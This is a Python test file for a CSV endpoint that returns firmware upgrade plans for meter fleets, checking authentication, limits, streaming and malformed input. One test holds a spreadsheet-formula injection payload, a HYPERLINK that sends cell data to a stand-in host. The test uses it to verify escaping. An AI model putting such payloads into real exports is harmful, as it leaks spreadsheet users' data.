"""`POST /fleet-plan.csv`: a plan per input row, in order, the same answers as `fleetPlan`,
authenticated like GraphQL, streamed both ways and not capped by the JSON body limit."""

from __future__ import annotations

import asyncio
import csv
import io
import shutil
import subprocess
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import httpx
import pytest

from models.database import create_engine, migrate, session_factory
from notifications.bus import change_bus
from notifications.channels import consumers
from resolvers.files.cpl_import import import_file, importer
from server import fleet_file as fleet_csv
from server.app import create_app, create_services
from server.fleet_records import TOO_LONG, Records
from tests.harness import HEAVY, asgi_client, fresh_database
from tests.live import DEADLINE, serve

ROOT = Path(__file__).resolve().parent.parent
FLEET = (ROOT / "examples" / "fleet.csv").read_text()
ANSWER = ["problem", "reachable", "reason", "target_version", "step_count", "path"]


@pytest.fixture(scope="module")
async def examples(settings, tmp_path_factory) -> AsyncIterator[tuple]:
    """An app over a database filled by importing examples/cpl.csv and examples/pathways.csv."""
    async with fresh_database(tmp_path_factory.mktemp("fleet")) as url:
        engine = create_engine(url)
        await migrate(engine)
        sessions = session_factory(engine)
        for name in ("cpl.csv", "pathways.csv"):
            path = ROOT / "examples" / name
            result = await import_file(
                sessions, consumers(change_bus(url, sessions)), path, importer(path)
            )
            assert result.written and not result.problems
        await engine.dispose()
        own = replace(settings, database_url=url)
        services = create_services(own)
        yield own, services
        await services.engine.dispose()


async def post_csv(app, body: Any, token: str | None, **headers: str) -> httpx.Response:
    sent = {"Content-Type": "text/csv"} | headers
    if token:
        sent["Authorization"] = f"Bearer {token}"
    async with asgi_client(app) as client:
        return await client.post("/fleet-plan.csv", content=body, headers=sent)


def rows(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


async def test_the_readme_curl_of_the_example_fleet_returns_a_plan_per_row(examples, token) -> None:
    settings, services = examples
    curl = shutil.which("curl")
    assert curl, "curl is needed for the README example"
    async with serve(create_app(settings, services)) as address:
        result = await asyncio.to_thread(
            subprocess.run,
            [
                curl, "-sS", f"http://{address}/fleet-plan.csv",
                "-H", f"Authorization: Bearer {token('LARGE_SUPPLIER')}",
                "-H", "Content-Type: text/csv",
                "--data-binary", "@examples/fleet.csv",
            ],
            cwd=ROOT, capture_output=True, text=True, timeout=30,
        )  # fmt: skip
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0] == FLEET.splitlines()[0] + "," + ",".join(ANSWER)
    assert lines[1:] == [
        "north-01,1A2B,2001,0100,3A000001,1200,,true,,0D000004,2,3A000001>2B000002>0D000004",
        "north-02,1A2B,2001,0100,0D000004,300,,true,,0D000004,0,0D000004",
        "north-03,1A2B,2002,0100,4E000001,800,,true,,5F000002,1,4E000001>5F000002",
        "south-01,3C4D,3001,0200,0A000010,2500,,true,,0C000030,2,0A000010>0B000020>0C000030",
        "south-02,3C4D,3001,0200,0C000099,40,"
        "firmware_version is not on the CPL for this device,,,,,",
        "south-03,3C4D,3001,02,0A000010,7,hardware_version must be 4 hexadecimal digits,,,,,",
    ]


async def test_the_answers_are_fleet_plans_on_the_same_items(app, gql, token) -> None:
    """Every firmware of every demo device (branching graphs, withdrawn firmware, a device with
    no route), by id and by identifiers, plus bad items: row by row what fleetPlan answers."""
    listing = await gql(
        "SECAS",
        "{ devices(first: 100) { nodes { id modelIdentifier hardwareVersion "
        "manufacturer { manufacturerIdentifier } firmware { version } } } }",
    )
    items = []
    for device in listing["data"]["devices"]["nodes"]:
        for firmware in device["firmware"]:
            items.append({"deviceId": device["id"], "firmwareVersion": firmware["version"]})
            items.append(
                {
                    "manufacturerIdentifier": device["manufacturer"]["manufacturerIdentifier"],
                    "modelIdentifier": device["modelIdentifier"].lower(),
                    "hardwareVersion": device["hardwareVersion"],
                    "firmwareVersion": firmware["version"].lower(),
                    "meterCount": 3,
                }
            )
    items += [
        {"deviceId": "device:999999", "firmwareVersion": "01020304"},
        {"deviceId": "firmware:1", "firmwareVersion": "01020304"},
        {"deviceId": items[0]["deviceId"], "firmwareVersion": "0102"},
        {"deviceId": items[0]["deviceId"], "firmwareVersion": "FFFFFFFF", "meterCount": 0},
    ]
    answer = await gql(
        "LARGE_SUPPLIER",
        "query($items: [FleetItemInput!]!) { fleetPlan(items: $items) { entries { problem "
        "plan { reachable reason from { version } target { version } "
        "steps { to { version } } } } } }",
        {"items": items},
    )
    entries = answer["data"]["fleetPlan"]["entries"]
    names = ("deviceId", "manufacturerIdentifier", "modelIdentifier", "hardwareVersion")
    names += ("firmwareVersion", "meterCount")
    columns = ["device_id", "manufacturer_identifier", "model_identifier", "hardware_version"]
    columns += ["firmware_version", "meter_count"]
    body = io.StringIO()
    writer = csv.writer(body)
    writer.writerow(columns)
    for item in items:
        writer.writerow([item.get(name, "") for name in names])
    answered = rows(await post_csv(app, body.getvalue(), token("LARGE_SUPPLIER")))
    assert len(answered) == len(entries) >= 100
    for entry, row in zip(entries, answered, strict=True):
        assert bool(row["problem"]) == (entry["problem"] is not None), row
        plan = entry["plan"]
        if plan is None:
            assert row["reachable"] == row["path"] == ""
            continue
        assert row["reachable"] == str(plan["reachable"]).lower()
        assert row["reason"] == (plan["reason"] or "")
        assert row["target_version"] == (plan["target"]["version"] if plan["target"] else "")
        if plan["reachable"]:
            path = [plan["from"]["version"], *(s["to"]["version"] for s in plan["steps"])]
            assert row["path"] == ">".join(path)
            assert row["step_count"] == str(len(plan["steps"]))
    assert any(row["reachable"] == "false" for row in answered)
    assert any(int(row["step_count"] or 0) >= 2 for row in answered)


async def test_malformed_rows_get_a_problem_and_every_other_cell_passes_through(
    examples, token
) -> None:
    settings, services = examples
    app = create_app(settings, services)
    body = (
        "\ufeffmeter,manufacturer_identifier,model_identifier,hardware_version,"
        "firmware_version,meter_count\r\n"
        '"m-1, north","1a2b",2001,0100,3a000001,\r\n'
        "\r\n"
        "m-2,1A2B,2001,0100,3A000001,many\r\n"
        "m-3,1A2B,2001\r\n"
        '"m-4\nsecond line",1A2B,2001,0100,2B000002,2\r\n'
        "m-5,1A2B,,0100,2B000002,2"
    )
    answered = rows(await post_csv(app, body.encode(), token("SMALL_SUPPLIER")))
    assert [row["meter"] for row in answered] == [
        "m-1, north", "m-2", "m-3", "m-4\nsecond line", "m-5",
    ]  # fmt: skip
    assert answered[0]["manufacturer_identifier"] == "1a2b"  # passed through as given
    assert answered[0]["path"] == "3A000001>2B000002>0D000004"
    assert answered[1]["problem"] == "meter_count must be a whole number"
    assert answered[2]["problem"] == "the row has 3 cells and the header 6"
    assert answered[3]["step_count"] == "1"
    assert answered[4]["problem"].startswith("model_identifier missing")


async def test_would_be_formulas_in_passed_through_cells_go_back_escaped(examples, token) -> None:
    settings, services = examples
    body = (
        "meter,manufacturer_identifier,model_identifier,hardware_version,firmware_version\n"
        '"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",1A2B,2001,0100,3A000001\n'
        "@SUM(1+1),1A2B,2001,0100,3A000001\n"
        "plain,1A2B,2001,0100,3A000001\n"
    )
    response = await post_csv(create_app(settings, services), body, token("LARGE_SUPPLIER"))
    answered = rows(response)
    assert [row["meter"] for row in answered] == [
        '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "'@SUM(1+1)",
        "plain",
    ]
    assert {row["path"] for row in answered} == {"3A000001>2B000002>0D000004"}
    assert response.text.splitlines()[3].startswith("plain,1A2B,2001,0100,3A000001,,true")


async def test_a_file_without_the_needed_columns_is_400_naming_them(examples, token) -> None:
    settings, services = examples
    app = create_app(settings, services)
    response = await post_csv(app, "group,model_identifier\nx,2001\n", token("SMALL_SUPPLIER"))
    assert response.status_code == 400
    error = response.json()["errors"][0]
    assert error["extensions"]["code"] == "BAD_REQUEST"
    assert "firmware_version" in error["message"]
    assert "device_id or manufacturer_identifier, hardware_version" in error["message"]
    clash = await post_csv(app, "device_id,firmware_version,path\n", token("SMALL_SUPPLIER"))
    assert clash.status_code == 400 and "path" in clash.json()["errors"][0]["message"]
    empty = await post_csv(app, "", token("SMALL_SUPPLIER"))
    assert empty.status_code == 400


async def test_it_is_authenticated_like_graphql_and_takes_only_csv(examples, token) -> None:
    settings, services = examples
    app = create_app(settings, services)
    anonymous = await post_csv(app, FLEET, None)
    assert anonymous.status_code == 401
    assert anonymous.json()["errors"][0]["extensions"]["code"] == "UNAUTHENTICATED"
    forged = await post_csv(app, FLEET, token("SSC")[:-4] + "AAAA")
    assert forged.status_code == 401
    json_body = await post_csv(app, FLEET, token("SSC"), **{"Content-Type": "application/json"})
    assert json_body.status_code == 415
    assert json_body.json()["errors"][0]["extensions"]["code"] == "BAD_REQUEST"


async def test_the_body_limit_does_not_cap_it_but_its_row_limit_does(examples, token) -> None:
    settings, _ = examples
    small = replace(settings, max_body_bytes=2_000, max_fleet_rows=150)
    services = create_services(small)
    app = create_app(small, services)
    row = "north,1A2B,2001,0100,3A000001,1\n"
    body = FLEET.splitlines()[0] + "\n" + row * 200  # about 6 KB, over the body limit
    answered = rows(await post_csv(app, body, token("LARGE_SUPPLIER")))
    assert len(answered) == 200
    assert all(r["reachable"] == "true" for r in answered[:150])
    assert all(r["problem"].startswith("over CPL_MAX_FLEET_ROWS (150") for r in answered[150:])
    async with asgi_client(app) as client:
        graphql = await client.post(
            "/graphql",
            content=b"{" + b" " * 3_000 + b"}",
            headers={"Content-Type": "application/json"},
        )
    assert graphql.status_code == 413
    await services.engine.dispose()


async def test_the_answer_starts_before_the_file_has_arrived(examples, token) -> None:
    """A chunked upload: the answer's header comes back while the body is still open."""
    settings, services = examples
    async with serve(create_app(settings, services)) as address:
        host, port = address.split(":")
        reader, writer = await asyncio.open_connection(host, int(port))
        writer.write(
            (
                "POST /fleet-plan.csv HTTP/1.1\r\nHost: test\r\nContent-Type: text/csv\r\n"
                f"Authorization: Bearer {token('LARGE_SUPPLIER')}\r\n"
                "Transfer-Encoding: chunked\r\n\r\n"
            ).encode()
        )
        header = FLEET.splitlines()[0] + "\n"
        writer.write(f"{len(header):x}\r\n{header}\r\n".encode())
        await writer.drain()
        received = b""
        while b"problem,reachable" not in received:
            received += await asyncio.wait_for(reader.read(4096), DEADLINE)
        assert received.startswith(b"HTTP/1.1 200")
        row = "north,1A2B,2001,0100,3A000001,5\n"
        writer.write(f"{len(row):x}\r\n{row}\r\n0\r\n\r\n".encode())
        await writer.drain()
        while b"3A000001>2B000002>0D000004" not in received:
            received += await asyncio.wait_for(reader.read(4096), DEADLINE)
        writer.close()
        await writer.wait_closed()


async def test_a_row_too_long_or_not_csv_gets_a_problem_and_is_never_held(examples, token) -> None:
    settings, services = examples
    app = create_app(settings, services)
    header = "meter,device_id,firmware_version\n"
    endless = "x" * 1_500_000  # no line break for 1.5 million characters
    oversized_field = '"' + "y" * 200_000 + '",device:1,3A000001'  # over csv's field limit
    body = header + "m-1,,3A000001\n" + endless + ",device:1,3A000001\n" + oversized_field
    body += "\nm-4,,3A000001\n"
    answered = rows(await post_csv(app, body, token("SMALL_SUPPLIER")))
    assert [row["meter"] for row in answered] == ["m-1", "", "", "m-4"]
    assert answered[1]["problem"] == "the row is over 1,000,000 characters; it was not read"
    assert answered[2]["problem"] == "the row is not valid CSV; its cells could not be read"
    assert answered[3]["problem"].startswith("give device_id, or manufacturer_identifier")
    too_long_header = await post_csv(app, "a" * 1_200_000, token("SMALL_SUPPLIER"))
    assert too_long_header.status_code == 400
    assert "over 1,000,000 characters" in too_long_header.json()["errors"][0]["message"]


def test_records_are_whole_across_pieces_and_a_runaway_row_is_dropped() -> None:
    records = Records()
    assert records.feed('a,"b\nc') == []
    assert records.feed('",d\ne,f\ng') == ['a,"b\nc",d', "e,f"]
    assert records.feed("x" * 600_000) == []
    found = records.feed("x" * 600_000)
    assert len(found) == 1 and found[0] is TOO_LONG
    assert records.feed("x" * 10) == []  # still inside the dropped row
    assert records.feed("xx\nh,i\nj") == ["h,i"]
    assert records.feed("", final=True) == ["j"]


async def test_a_batch_never_holds_more_items_than_one_plan_takes(
    examples, token, monkeypatch
) -> None:
    settings, services = examples
    monkeypatch.setattr("resolvers.planning.fleet_plan.MAX_FLEET_ITEMS", 3)
    monkeypatch.setattr("server.fleet_file.BATCH_ROWS", 3)
    versions = ["3A000001", "2B000002", "1C000003", "0D000004"]
    lines = [f"m-{i},1A2B,2001,0100,{versions[i % 4]}\n" for i in range(10)]
    header = "meter,manufacturer_identifier,model_identifier,hardware_version,firmware_version\n"
    pieces = [header + "".join(lines[:2]), "".join(lines[2:5]), "".join(lines[5:])]

    async def body():  # in pieces, so a batch is filled across them
        for piece in pieces:
            yield piece.encode()

    answered = rows(await post_csv(create_app(settings, services), body(), token("SSC")))
    assert [row["meter"] for row in answered] == [f"m-{i}" for i in range(10)]
    assert [row["target_version"] for row in answered] == ["0D000004"] * 10


async def test_a_batch_never_holds_more_than_its_bytes_of_rows(examples, token, monkeypatch):
    """Issue 24, row 3: rows of 900 KB each, with a budget of 1 MB a batch, are answered a batch
    (a row) at a time, in order; a row over 1,000,000 characters among them still gets its
    problem. What each batch held when it was planned is counted, not guessed. 40 rows (36 MB)
    by default, the issue's 400 with `CPL_TEST_HEAVY=1`."""
    settings, services = examples
    budget, count, width = 1_000_000, 400 if HEAVY else 40, 900_000
    held: list[tuple[int, int]] = []  # (rows, characters) of each batch when planned

    class Counted(fleet_csv._Batcher):
        async def flush(self) -> None:
            if self.refs:
                held.append((len(self.refs), self.held))
            await super().flush()

    monkeypatch.setattr(fleet_csv, "_Batcher", Counted)
    own = replace(settings, fleet_batch_bytes=budget)
    app = create_app(own, replace(services, settings=own))
    header = "meter,manufacturer_identifier,model_identifier,hardware_version,firmware_version\n"
    too_long = count // 2

    def row(i: int) -> str:
        meter = f"m{i:03d}-".ljust(1_100_000 if i == too_long else width - 40, "x")
        return f"{meter},1A2B,2001,0100,3A000001\n"

    async def send(writer: asyncio.StreamWriter) -> None:
        """The file, chunked, a row a chunk: written while the answer is read, as the server
        answers each batch before it reads the next (a client that only writes would stall)."""
        writer.write(
            "POST /fleet-plan.csv HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: text/csv\r\n"
            f"Authorization: Bearer {token('SSC')}\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
        )
        for piece in [header, *(row(i) for i in range(count))]:
            writer.write(f"{len(piece):x}\r\n{piece}\r\n".encode())
            await writer.drain()
        writer.write(b"0\r\n\r\n")
        await writer.drain()

    async def answer_lines(reader: asyncio.StreamReader) -> AsyncIterator[str]:
        """The answer's lines, its chunked framing undone, each let go once read."""
        status = await reader.readuntil(b"\r\n\r\n")
        assert status.startswith(b"HTTP/1.1 200"), status
        pending = b""
        while size := int((await reader.readuntil(b"\r\n")).strip(), 16):
            *lines, pending = (pending + await reader.readexactly(size)).split(b"\n")
            for line in lines:
                yield line.decode()
            await reader.readexactly(2)

    meters: list[str] = []
    problems: dict[int, str] = {}
    async with serve(app) as address:
        host, port = address.split(":")
        reader, writer = await asyncio.open_connection(host, int(port))
        sending = asyncio.ensure_future(send(writer))
        lines = answer_lines(reader)
        assert (await anext(lines)).endswith(",".join(ANSWER))
        async for line in lines:
            *cells, answer = line.split(",", 5)  # five input cells, none with a comma
            meters.append(cells[0][:5])
            if problem := next(csv.reader([answer]))[0]:
                problems[len(meters) - 1] = problem
        await sending
        writer.close()

    assert meters == [f"m{i:03d}-" if i != too_long else "" for i in range(count)]
    assert problems == {too_long: "the row is over 1,000,000 characters; it was not read"}
    assert max(characters for _, characters in held) <= budget
    # 900 KB rows: one a batch; the row over the cap is never held, so it joins a neighbour's.
    assert sorted(rows for rows, _ in held) == [1] * (count - 2) + [2]
